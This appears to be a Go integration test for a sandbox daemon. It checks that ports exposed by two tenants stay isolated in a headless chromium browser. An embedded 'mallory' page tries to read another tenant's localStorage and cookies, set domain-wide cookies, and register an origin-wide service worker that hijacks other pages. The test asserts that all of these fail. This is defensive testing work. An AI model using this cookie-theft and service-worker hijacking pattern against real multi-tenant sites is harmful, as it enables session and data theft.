package main_test

import (
	"bytes"
	"context"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cordon-sandbox/cordon/internal/testutil"
)

// portSite is the program both tenants' sandboxes serve on port 8000:
// argv[1] is its role. alice's page keeps a secret in the browser's
// storage and a cookie; mallory's page reads what it can of both,
// registers a service worker over the whole origin it is served from
// (allowed to by its Service-Worker-Allowed header) that answers every
// request it sees outside mallory's own URL with "STOLEN", and reports what
// it got. Every answer
// also sets a cookie for the whole host and its domain. Each request's
// cookies are written to /workspace/cookies.
const portSite = `
import sys, http.server, urllib.parse
role = sys.argv[1]
PAGES = {
  "alice": """<html><body>ALICE PAGE<script>
try { localStorage.setItem("secret", "alice-storage"); document.cookie = "sid=alice-cookie; path=/"; } catch (e) {}
</script></body></html>""",
  "mallory": """<html><body>MALLORY<script>
const out = [];
try { out.push("storage=" + localStorage.getItem("secret")); } catch (e) { out.push("storage-refused"); }
try { out.push("cookie=" + document.cookie); } catch (e) { out.push("cookie-refused"); }
const report = () => fetch("report?" + encodeURIComponent(out.join(" ")), {mode: "no-cors"});
new Promise((ok, no) => navigator.serviceWorker.register("sw.js", {scope: "/"}).then(ok, no))
  .then(() => navigator.serviceWorker.ready)
  .then(r => out.push("worker=" + r.scope), e => out.push("worker-refused"))
  .then(report, report);
</script></body></html>""",
}
WORKER = """self.addEventListener("install", e => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(self.clients.claim()));
const mine = new URL("./", self.location).href;
self.addEventListener("fetch", e => { if (!e.request.url.startsWith(mine)) e.respondWith(new Response("<html><body>STOLEN " + e.request.url + "</body></html>", {headers: {"Content-Type": "text/html"}})); });
"""
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open("/workspace/cookies", "a") as f:
            f.write(self.path + " " + self.headers.get("Cookie", "") + "\n")
        path, _, query = self.path.partition("?")
        if path.endswith("/report"):
            with open("/workspace/report", "w") as f:
                f.write(urllib.parse.unquote(query))
            body, kind = b"", "text/plain"
        elif path.endswith("/sw.js"):
            body, kind = WORKER.encode(), "text/javascript"
        else:
            body, kind = PAGES[role].encode(), "text/html"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Set-Cookie", "tossed-" + role + "=1; Path=/")
        self.send_header("Set-Cookie", "tossed-domain-" + role + "=1; Domain=localhost; Path=/")
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", 8000), H).serve_forever()
`

// TestExposedPortsInBrowser: two tenants expose a port each on one daemon
// and one person's browser visits both; mallory's page must get nothing of
// alice's (her storage, her cookies), must not set cookies alice's server
// receives, and must not put a service worker over alice's URL (one over
// the daemon's whole origin would answer for every port, reading each
// one's token). With a loopback listener each port has an origin of its
// own (http://pt-….localhost:PORT/), where its URL on the daemon leads a
// browser; on a listener without one, every port shares the daemon's
// origin and its pages run sandboxed. A real browser (chromium) judges
// both.
func TestExposedPortsInBrowser(t *testing.T) {
	testutil.RequiresRoot(t)
	chromium := testutil.Requires(t, "chromium")[0]
	for _, c := range []struct {
		name, listen string
		ownOrigins   bool
	}{
		{"OwnOrigins", "tcp://127.0.0.1:0", true},
		{"SharedOrigin", "tcp://0.0.0.0:0", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			key := filepath.Join(t.TempDir(), "admin.key")
			if err := os.WriteFile(key, []byte(strings.Repeat("k", 40)), 0o600); err != nil {
				t.Fatal(err)
			}
			dir, sock, d := serveInTemp(t, "--listen", c.listen, "--admin-key-file", key)
			defer d.stop(t, sock)
			var port string
			for deadline := time.Now().Add(20 * time.Second); port == ""; time.Sleep(10 * time.Millisecond) {
				if m := regexp.MustCompile(`listening addr=tcp://\S*:([0-9]+)`).FindStringSubmatch(d.out.String()); m != nil {
					port = m[1]
				} else if time.Now().After(deadline) {
					t.Fatalf("no tcp listener:\n%s", d.out.String())
				}
			}
			site := filepath.Join(dir, "site.py")
			if err := os.WriteFile(site, []byte(portSite), 0o644); err != nil {
				t.Fatal(err)
			}
			// Each tenant, with a key of its own over TCP, serves the site
			// in a sandbox and exposes it.
			urls, origins, ids := map[string]string{}, map[string]string{}, map[string]string{}
			as := map[string]func(args ...string) string{}
			for _, tenant := range []string{"alice", "mallory"} {
				out, errOut, code := cordon(t, "key", "create", "--host=unix://"+sock, "--tenant", tenant)
				f := strings.Fields(out)
				if code != 0 || len(f) != 2 {
					t.Fatalf("key create: %d %s", code, errOut)
				}
				as[tenant] = func(args ...string) string {
					t.Helper()
					cmd := exec.Command(buildCLI(t), args...)
					cmd.Env = append(os.Environ(), "CORDON_HOST=http://127.0.0.1:"+port, "CORDON_API_KEY="+f[1])
					var o, e bytes.Buffer
					cmd.Stdout, cmd.Stderr = &o, &e
					if err := cmd.Run(); err != nil {
						t.Fatalf("%s: cordon %v: %v %s", tenant, args, err, e.String())
					}
					return strings.TrimSpace(o.String())
				}
				id := as[tenant]("create")
				ids[tenant] = id
				as[tenant]("cp", site, id+":/workspace/site.py")
				as[tenant]("exec", "-d", id, "--", "python3", "/workspace/site.py", tenant)
				urls[tenant] = as[tenant]("expose", id, "8000")
				listed := strings.Fields(as[tenant]("expose", "--list", id))
				if len(listed) != 3 || listed[1] != urls[tenant] || !strings.HasPrefix(urls[tenant], "http://127.0.0.1:"+port+"/v1/ports/pt_") {
					t.Fatalf("%s's port: %s, listed %q", tenant, urls[tenant], listed)
				}
				if got := strings.HasSuffix(listed[2], ".localhost:"+port+"/"); got != c.ownOrigins {
					t.Fatalf("%s's origin URL %s: one of its own %v, want %v", tenant, listed[2], got, c.ownOrigins)
				}
				origins[tenant] = listed[2]
			}
			if c.ownOrigins {
				// Reached through another port (an SSH tunnel's), a browser is
				// sent on through that port.
				req, _ := http.NewRequest("GET", urls["alice"], nil)
				req.Host = "localhost:9999"
				req.Header.Set("Sec-Fetch-Mode", "navigate")
				resp, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Do(req)
				if err != nil {
					t.Fatal(err)
				}
				resp.Body.Close()
				if want := strings.Replace(origins["alice"], ":"+port+"/", ":9999/", 1); resp.StatusCode != http.StatusTemporaryRedirect || resp.Header.Get("Location") != want {
					t.Errorf("through another port: %d %q, want %q", resp.StatusCode, resp.Header.Get("Location"), want)
				}
			}
			// One profile: one person's browser.
			profile := t.TempDir()
			visit := func(url string) string {
				t.Helper()
				ctx, cancel := context.WithTimeout(t.Context(), 90*time.Second)
				defer cancel()
				out, err := exec.CommandContext(ctx, chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
					"--user-data-dir="+profile, "--virtual-time-budget=5000", "--dump-dom", url).Output()
				if err != nil {
					t.Fatalf("chromium %s: %v", url, err)
				}
				return string(out)
			}
			read := func(tenant, file string) string {
				return as[tenant]("exec", ids[tenant], "--", "sh", "-c", "cat /workspace/"+file+" 2>/dev/null; true")
			}
			if page := visit(urls["alice"]); !strings.Contains(page, "ALICE PAGE") {
				t.Fatalf("alice's page: %s", page)
			}
			// Where ports have origins of their own, the browser is sent on
			// from a port's URL to its origin.
			// Its report is a request the page sends once its worker is
			// in place; on a loaded machine the browser may be gone first,
			// so the page is visited again until one arrives.
			var report string
			for deadline := time.Now().Add(2 * time.Minute); report == "" && time.Now().Before(deadline); {
				if page := visit(urls["mallory"]); !strings.Contains(page, "MALLORY") {
					t.Fatalf("mallory's page: %s", page)
				}
				for wait := time.Now().Add(2 * time.Second); report == "" && time.Now().Before(wait); time.Sleep(100 * time.Millisecond) {
					report = read("mallory", "report")
				}
			}
			if report == "" {
				t.Fatal("mallory's page never reported")
			}
			t.Logf("mallory's page got: %s", report)
			if strings.Contains(report, "alice") {
				t.Errorf("mallory's page read alice's: %s", report)
			}
			if c.ownOrigins && !strings.Contains(report, "worker=http://pt-") {
				t.Errorf("mallory's page, on its own origin, has no worker of its own: %s", report)
			}
			if !c.ownOrigins && !strings.Contains(report, "worker-refused") {
				t.Errorf("mallory's page, on the daemon's shared origin, registered a worker: %s", report)
			}
			again := []string{urls["alice"]}
			if c.ownOrigins {
				again = append(again, origins["alice"])
			}
			for _, url := range again {
				if page := visit(url); !strings.Contains(page, "ALICE PAGE") {
					t.Errorf("alice's page at %s after mallory's: %s", url, page)
				}
			}
			if cookies := read("alice", "cookies"); strings.Contains(cookies, "mallory") || !strings.Contains(cookies, "/ ") {
				t.Errorf("alice's server received:\n%s", cookies)
			}
		})
	}
}
